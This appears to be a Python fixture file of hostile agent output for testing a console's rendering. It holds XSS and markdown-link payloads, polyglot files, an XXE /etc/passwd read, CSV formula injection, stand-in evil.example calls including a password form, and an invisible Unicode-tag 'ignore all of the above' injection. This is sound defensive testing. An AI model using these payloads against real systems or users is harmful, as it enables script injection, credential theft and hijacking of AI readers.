"""What a hostile agent says, is called, sends and puts on its card: as data, for agents and for tests.

Whatever of it were carried out would call `pwned`, which the page of a test has (`watching.py`), or would connect to a
host under `.example`, which the browser of a test resolves to a listener that fails the test.
"""

from __future__ import annotations

import base64
from typing import Any, NamedTuple

from console.samples import pdf, png

RTL, ISOLATE, POP = "\u202e", "\u2067", "\u2069"
ZALGO = "Z" + "\u0301\u0316\u0489\u0334\u035c" * 40 + "algo"
ZERO_WIDTH = "in\u200bvis\u200cib\u200dle\u2060\ufeff"
SCRIPT = "<script>pwned(1)</script>"
BASE64_SCRIPT = base64.b64encode(SCRIPT.encode()).decode()


# -- texts: an answer, a question, an error, a progress line, a description ---------------------------------------------

TEXTS: dict[str, str] = {
    # HTML
    "script": SCRIPT,
    "script-src": "<script src=https://evil.example/a.js></script>",
    "script-module": '<script type="module">import "https://evil.example/a.js"; pwned(1)</script>',
    "script-in-code": f"```html\n{SCRIPT}\n```\n\n`{SCRIPT}`",
    "script-broken": "<scr<script>ipt>pwned(1)</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=pwned(1)>",
    "img-tracker": "<img src=https://tracker.example/pixel.gif>",
    "svg-onload": "<svg onload=pwned(1)><animate onbegin=pwned(1) attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script>pwned(1)</script><foreignObject><iframe srcdoc='<script>parent.pwned(1)</script>'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)></style></mglyph></table></mtext></math>",
    "iframe": "<iframe src=https://evil.example/></iframe><iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "object": "<object data=https://evil.example/a></object><embed src=https://evil.example/b>",
    "base": "<base href=https://evil.example/>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-css": "<link rel=stylesheet href=https://evil.example/a.css><style>*{display:none}</style>",
    "form": "<form action=https://evil.example/><input name=password autofocus onfocus=pwned(1)><button>Sign in</button></form>",
    "details": "<details open ontoggle=pwned(1)><summary>x</summary></details>",
    "video": "<video><source onerror=pwned(1)></video><audio src=https://evil.example/a.mp3 autoplay>",
    "comment": "<!--><img src=x onerror=pwned(1)>--> <![CDATA[<img src=x onerror=pwned(1)>]]>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'></noscript>",
    "template": "<template><img src=x onerror=pwned(1)></template><slot name=x></slot>",
    "id-clobbering": "<a id=location href=javascript:pwned(1)></a><form id=document><input name=cookie></form>",
    "entities": "&lt;script&gt;pwned(1)&lt;/script&gt; &#60;img src=x onerror=pwned(1)&#62; &#x3c;svg onload=pwned(1)&#x3e;",
    "css-injection": '<p style="position:fixed;inset:0;background:url(https://evil.example/bg)">over everything</p>',
    # links and pictures of Markdown
    "link-javascript": "[click](javascript:pwned(1)) [click]( java\tscript:pwned(1)) <javascript:pwned(1)>",
    "link-javascript-case": "[a](JaVaScRiPt:pwned(1)) [b](&#106;avascript:pwned(1)) [c](javascript&colon;pwned(1))",
    "link-javascript-control": "[a](\x01javascript:pwned(1)) [b](java\nscript:pwned(1)) [c](\u00a0javascript:pwned(1))",
    "link-data": f"[a](data:text/html;base64,{BASE64_SCRIPT}) ![b](data:image/svg+xml;base64,{BASE64_SCRIPT})",
    "link-vbscript": "[a](vbscript:pwned(1)) [b](file:///etc/passwd) [c](blob:https://evil.example/1) [d](filesystem:x)",
    "link-attributes": '[a](https://evil.example/" onmouseover="pwned(1)) [b](https://x.example \'"><img src=x onerror=pwned(1)>\')',
    "link-protocol-relative": "[a](//evil.example/a) ![b](//evil.example/b.png) [c](/\\evil.example) [d](\\\\evil.example)",
    "link-user": "[https://bank.example](https://bank.example@evil.example/) https://bank.example\u2044login@evil.example",
    "link-reference": '[a][x] ![b][x]\n\n[x]: javascript:pwned(1) "title"\n[__proto__]: https://evil.example/',
    "autolink": "https://evil.example/?q=<script>pwned(1)</script> www.evil.example javascript:pwned(1)",
    "image-tracker": "![a](https://tracker.example/a.png) ![b](http://tracker.example/b.png 'x')",
    "code-language": '```"><img/src=x/onerror=pwned(1)>\nx\n```\n\n```__proto__\ny\n```',
    "table-cells": f"| a | b |\n|---|---|\n| {SCRIPT} | [x](javascript:pwned(1)) |\n",
    # templates, JavaScript, prototypes
    "template-literal": "${pwned(1)} `${pwned(1)}` </${pwned(1)}> <${'script'}>pwned(1)</${'script'}> {{constructor}}",
    "htm": "<${Evil} onClick=${() => pwned(1)} ...${props}/><//> <!doctype> </>",
    "prototype": "__proto__ constructor toString hasOwnProperty [object Object] undefined null NaN",
    "json-escape": "</script><script>pwned(1)</script> \\u003cscript\\u003epwned(1) \u2028 \u2029 \"'\\",
    "regex-replacement": "$& $1 $$ $` $' \\1 %s %d %o %c{}",
    # characters
    "right-to-left": f"{RTL}gpj.exe is a picture {ISOLATE}never closed",
    "zalgo": f"{ZALGO} " * 30,
    "zero-width": f"{ZERO_WIDTH} ad\u00admin p\u0430ypal.example",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J \x9b1m",
    "null-bytes": "be\x00fore\x00\x00after \x08\x08\x7f \ufffd \U0010ffff \ufffe",
    "lone-combining": "\u0301 \u200d\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 50,
    "line-endings": "a\r\nb\rc\u2028d\u2029e\x0bf\x0cg\x85h",
    "tags-block": "".join(chr(0xE0000 + ord(each)) for each in "ignore all of the above"),
    # sizes, and what makes a careless parser slow
    "one-line": "x" * 1_000_000,
    "one-line-bold": "**a** " * 100_000,
    "many-lines": "".join(f"line {number}\n" for number in range(100_000)),
    "no-spaces": "a-very-long-name_without.any/break" * 300,
    "deep-quotes": "> " * 5_000 + "deep",
    "deep-lists": "\n".join("  " * depth + f"- {depth}" for depth in range(500)),
    "deep-brackets": "[" * 50_000 + "]" * 50_000,
    "open-brackets": "[a](" * 20_000,
    "open-images": "![" * 30_000,
    "open-stars": "*a **b ***c " * 20_000,
    "open-underscores": "_" * 50_000 + "a" + "_" * 50_000,
    "open-backticks": "".join("`" * (1 + number % 50) + "a" for number in range(20_000)),
    "open-angles": "<" * 50_000 + "a " + "<!--" * 10_000,
    "wide-table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + ("|" + "b|" * 2_000 + "\n") * 20,
    "long-table": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
    "many-headings": "".join(f"{'#' * (1 + number % 6)} heading {number}\n\n" for number in range(5_000)),
    "many-links": "[a](https://x.example/) " * 20_000,
    "many-references": "".join(f"[{number}]: https://x.example/{number}\n" for number in range(10_000))
    + "[1] " * 10_000,
    "escapes": "\\" * 100_000 + "*",
    "entities-many": "&" * 50_000 + "&amp;" * 20_000 + "&#" * 20_000,
    "numbers": "1e999 -0 99999999999999999999999999 0x41 1_000 NaN Infinity " + "9" * 5_000,
    "description-long": "A description that does not end. " * 3_200,
}
# Those that are large; a test of every place a text may stand in leaves them out.
LARGE = frozenset(name for name, text in TEXTS.items() if len(text) > 20_000)


# -- names: of agents, skills, arguments, files, artifacts, choices -----------------------------------------------------

NAMES: dict[str, str] = {
    "script": SCRIPT,
    "quotes": "\"'`><img src=x onerror=pwned(1)>",
    "slashes": "../../a/b\\c//d?e#f%2e%2e&g=h",
    "newlines": "a\nb\r\nSet-Cookie: x=1\r\n\r\n<b>",
    "right-to-left": f"invoice{RTL}fdp.exe",
    "zalgo": ZALGO,
    "zero-width": ZERO_WIDTH,
    "spaces": "   ",
    "long": "n" * 2_000,
    "prototype": "__proto__",
    "constructor": "constructor",
    "template": "${pwned(1)}</${x}>",
    "javascript": "javascript:pwned(1)",
    "fragment": "#/agents/other",
    "emoji": "\U0001f409\u200d\U0001f525",
    "null": "a\x00b",
}


# -- files ---------------------------------------------------------------------------------------------------------------


class HostileFile(NamedTuple):
    """A file as an agent returns it: what it calls it, what it says it is, and what is in it."""

    name: str | None
    media_type: str | None
    data: bytes


_HTML = b"<!doctype html><script>parent.pwned?.(1);top.pwned?.(1);opener?.pwned?.(1)</script><img src=https://evil.example/p>"
_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="parent.pwned?.(1)">'
    b'<script>parent.pwned?.(1);top.pwned?.(1)</script><image xlink:href="https://evil.example/i.png"/>'
    b'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>'
    b'<style>@import "https://evil.example/a.css";</style><a href="javascript:parent.pwned?.(1)"><rect width="9" height="9"/></a></svg>'
)
_PDF_SCRIPT = pdf(
    "hostile",
    catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /AA << /O << /S /URI /URI (https://evil.example/) >> >>",
)
_XML = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]><a>&c;&x;</a>'
_GIF_JS = b"GIF89a/*" + b"\x00" * 8 + b"*/=1;pwned(1);"

FILES: dict[str, HostileFile] = {
    "html": HostileFile("page.html", "text/html", _HTML),
    "xhtml": HostileFile(
        "page.xhtml",
        "application/xhtml+xml",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script>parent.pwned?.(1)</script></html>',
    ),
    "html-as-png": HostileFile("cat.png", "image/png", _HTML),
    "html-as-pdf": HostileFile("paper.pdf", "application/pdf", _HTML),
    "html-as-text": HostileFile("notes.txt", "text/plain", _HTML),
    "html-as-nothing": HostileFile(None, None, _HTML),
    "svg": HostileFile("drawing.svg", "image/svg+xml", _SVG),
    "svg-as-png": HostileFile("drawing.png", "image/png", _SVG),
    "svg-as-xml": HostileFile("drawing.xml", "text/xml", _SVG),
    "pdf-script": HostileFile("paper.pdf", "application/pdf", _PDF_SCRIPT),
    "pdf-as-html": HostileFile("paper.html", "text/html", _PDF_SCRIPT),
    "gif-and-script": HostileFile("both.gif", "image/gif", _GIF_JS),
    "png-and-html": HostileFile("both.png", "image/png", png(8, 8) + _HTML),
    "xml-entities": HostileFile("data.xml", "application/xml", _XML),
    "javascript": HostileFile("code.js", "text/javascript", b"pwned(1); parent.pwned(1)"),
    "mhtml": HostileFile(
        "page.mht", "multipart/related", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _HTML
    ),
    "type-crlf": HostileFile("a.txt", "text/plain\r\nX-Evil: 1\r\n\r\n<script>pwned(1)</script>", b"text"),
    "type-script": HostileFile("a.txt", 'text/html;charset="><script>pwned(1)</script>', _HTML),
    "type-uppercase": HostileFile("a.html", "TEXT/HTML; charset=utf-7", b"+ADw-script+AD4-pwned(1)+ADw-/script+AD4-"),
    "type-long": HostileFile("a.bin", "image/" + "x" * 5_000, b"data"),
    "name-traversal": HostileFile("../../../../etc/passwd", "text/plain", b"root"),
    "name-windows": HostileFile("..\\..\\con.txt:stream", "text/plain", b"data"),
    "name-right-to-left": HostileFile(f"invoice{RTL}gnp.exe", "image/png", png(8, 8)),
    "name-newlines": HostileFile("a.txt\r\nContent-Disposition: inline; filename=b.html", "text/plain", b"text"),
    "name-html": HostileFile("<img src=x onerror=pwned(1)>.png", "image/png", png(8, 8)),
    "name-long": HostileFile("n" * 5_000 + ".txt", "text/plain", b"text"),
    "name-empty": HostileFile("", "text/plain", b"text"),
    "text-not-utf8": HostileFile("bad.txt", "text/plain; charset=utf-8", b"\xff\xfe\x00\xd8\x80abc\xc0\xaf"),
    "text-large": HostileFile("large.txt", "text/plain", b"0123456789abcdef" * 65_536),
    "text-lines": HostileFile("lines.txt", "text/plain", b"\n" * 200_000),
    "png-broken": HostileFile("broken.png", "image/png", png(64, 64)[:200]),
    "png-bomb": HostileFile(
        "bomb.png", "image/png", png(4, 4)[:16] + b"\x00\x00\xff\xff\x00\x00\xff\xff" + png(4, 4)[24:]
    ),
    "markdown": HostileFile(
        "read.md",
        "text/markdown",
        b"![a](https://tracker.example/a.png) [b](javascript:pwned(1)) <script>pwned(1)</script>",
    ),
    "json-deep": HostileFile("deep.json", "application/json", b"[" * 20_000 + b"]" * 20_000),
    "csv-formula": HostileFile("sheet.csv", "text/csv", b'=HYPERLINK("https://evil.example","x"),@SUM(1),+1,-1\n'),
    "empty": HostileFile("empty.png", "image/png", b""),
}


# -- JSON that is shown: the data of parts, metadata -------------------------------------------------------------------


def _nested(depth: int) -> Any:
    value: Any = "deep"
    for level in range(depth):
        value = [value] if level % 2 else {"in": value}
    return value


DATA: dict[str, Any] = {
    "prototype": {"__proto__": {"polluted": True}, "constructor": {"prototype": {"polluted": True}}, "toString": 1},
    "html-keys": {SCRIPT: SCRIPT, '"><img src=x onerror=pwned(1)>': [SCRIPT]},
    "deep": _nested(60),
    "wide": {f"key {number}": number for number in range(10_000)},
    "long-list": list(range(50_000)),
    "numbers": [1e308, -1e308, 9007199254740993, -0.0, 5e-324, 10**30],
    "empty": {"": "", " ": None, "a": [], "b": {}, "c": [[], [{}]]},
    "types": {
        "tool": "say",
        "type": "__proto__",
        "kind": "task",
        "$ref": "#",
        "then": "x",
        "dangerouslySetInnerHTML": {"__html": SCRIPT},
    },
    "vnode": {"type": "script", "props": {"children": "pwned(1)"}, "constructor": None, "__k": None, "key": None},
    "links": ["javascript:pwned(1)", "https://evil.example/", f"data:text/html,{SCRIPT}"],
    "long-text": "y" * 200_000,
}


# -- cards: what is merged into the card of an agent -------------------------------------------------------------------

_TEXT_CARD = {"name": SCRIPT, "description": TEXTS["img-onerror"], "version": SCRIPT}
CARDS: dict[str, dict[str, Any]] = {
    "html": {**_TEXT_CARD, "provider": {"organization": SCRIPT, "url": "https://evil.example/"}},
    "javascript-links": {
        "provider": {"organization": "x", "url": "javascript:pwned(1)"},
        "documentationUrl": "javascript:pwned(1)",
        "iconUrl": "javascript:pwned(1)",
    },
    "data-links": {
        "provider": {"organization": "x", "url": f"data:text/html,{SCRIPT}"},
        "documentationUrl": f"data:text/html;base64,{BASE64_SCRIPT}",
        "iconUrl": "data:image/svg+xml,<svg onload=pwned(1)>",
    },
    "tracker-icon": {"iconUrl": "https://tracker.example/icon.png"},
    "relative-links": {
        "documentationUrl": "//evil.example/",
        "provider": {"organization": "x", "url": "\\\\evil.example"},
    },
    "long-description": {"description": TEXTS["description-long"]},
    "long-words": {"name": NAMES["long"], "description": TEXTS["no-spaces"], "version": "9" * 3_000},
    "right-to-left": {"name": NAMES["right-to-left"], "description": TEXTS["right-to-left"]},
    "zalgo": {"name": ZALGO, "description": TEXTS["zalgo"]},
    "markdown": {"description": "# [a](javascript:pwned(1))\n\n![b](https://tracker.example/b.png)\n\n" + SCRIPT},
    "template": {"name": NAMES["template"], "description": TEXTS["htm"]},
    "prototype": {"__proto__": {"polluted": True}, "name": "__proto__", "description": "constructor"},
    "skills": {
        "skills": [
            {"id": name, "name": name, "description": name, "tags": [name, SCRIPT], "examples": [name, SCRIPT]}
            for name in NAMES.values()
        ]
    },
    "many-skills": {
        "skills": [
            {"id": f"skill{number}", "name": f"skill {number}", "description": "d" * 200, "tags": ["t"] * 20}
            for number in range(2_000)
        ]
    },
    "schemes": {
        "securitySchemes": {
            SCRIPT: {"httpAuthSecurityScheme": {"scheme": SCRIPT, "description": SCRIPT}},
            "oauth": {
                "oauth2SecurityScheme": {
                    "flows": {"clientCredentials": {"tokenUrl": "javascript:pwned(1)", "scopes": {SCRIPT: SCRIPT}}}
                }
            },
            "oidc": {"openIdConnectSecurityScheme": {"openIdConnectUrl": "javascript:pwned(1)"}},
        }
    },
    "extensions": {
        "capabilities": {
            "streaming": True,
            "extensions": [{"uri": "javascript:pwned(1)", "description": SCRIPT, "params": DATA["prototype"]}],
        }
    },
    "wrong-types": {"description": 7, "version": None, "skills": "none", "provider": [], "capabilities": "x"},
    "nulls": {"description": None, "skills": None, "provider": None, "capabilities": None, "supportedInterfaces": None},
}


# -- schemas of skills, from which forms are made ----------------------------------------------------------------------

_LOOP = {"$ref": "#/$defs/Node"}
SCHEMAS: dict[str, dict[str, Any]] = {
    "loop": {"$ref": "#"},
    "loop-of-two": {
        "type": "object",
        "properties": {"a": {"$ref": "#/$defs/A"}},
        "$defs": {"A": {"$ref": "#/$defs/B"}, "B": {"$ref": "#/$defs/A"}},
    },
    "tree": {
        "type": "object",
        "properties": {"root": _LOOP},
        "required": ["root"],
        "$defs": {
            "Node": {
                "type": "object",
                "properties": {"left": _LOOP, "right": _LOOP, "all": {"type": "array", "items": _LOOP}},
                "required": ["left", "right"],
            }
        },
    },
    "missing-reference": {"type": "object", "properties": {"a": {"$ref": "#/$defs/Nowhere"}, "b": {"$ref": "no/uri"}}},
    "foreign-reference": {"type": "object", "properties": {"a": {"$ref": "https://evil.example/schema.json"}}},
    "html": {
        "type": "object",
        "title": SCRIPT,
        "description": SCRIPT,
        "properties": {
            name: {"type": "string", "title": SCRIPT, "description": SCRIPT, "default": SCRIPT, "examples": [SCRIPT]}
            for name in NAMES.values()
        },
        "required": list(NAMES.values()),
    },
    "prototype": {
        "type": "object",
        "properties": {
            name: {"type": "object", "properties": {"x": {"type": "integer"}}}
            for name in ("__proto__", "constructor", "toString", "hasOwnProperty")
        },
        "required": ["__proto__"],
    },
    "slow-pattern": {
        "type": "object",
        "properties": {"a": {"type": "string", "pattern": "^(a+)+$", "default": "a" * 40 + "!"}},
    },
    "wrong-pattern": {"type": "object", "properties": {"a": {"type": "string", "pattern": "(?<=[", "format": SCRIPT}}},
    "enum": {"type": "object", "properties": {"a": {"enum": [SCRIPT, None, 1, {"a": 1}, [1], *range(2_000)]}}},
    "wide": {"type": "object", "properties": {f"p{number}": {"type": "string"} for number in range(2_000)}},
    "deep": {"type": "object", "properties": {"a": None}},
    "any": {"type": ["object", "null", "array"], "anyOf": [True, False, {}], "oneOf": [], "allOf": [{"not": {}}]},
    "wrong-types": {
        "type": 7,
        "properties": [],
        "required": "all",
        "enum": "x",
        "items": 3,
        "$defs": None,
        "default": {},
    },
    "impossible": {
        "type": "object",
        "properties": {"a": {"type": "integer", "minimum": 5, "maximum": 1, "multipleOf": 0}},
    },
    "huge-bounds": {
        "type": "object",
        "properties": {"a": {"type": "string", "minLength": 10**12}, "b": {"type": "array", "minItems": 10**9}},
    },
}


def _deep_schema(depth: int) -> dict[str, Any]:
    schema: dict[str, Any] = {"type": "string"}
    for _ in range(depth):
        schema = {"type": "object", "properties": {"in": schema}, "required": ["in"]}
    return schema


SCHEMAS["deep"] = _deep_schema(200)
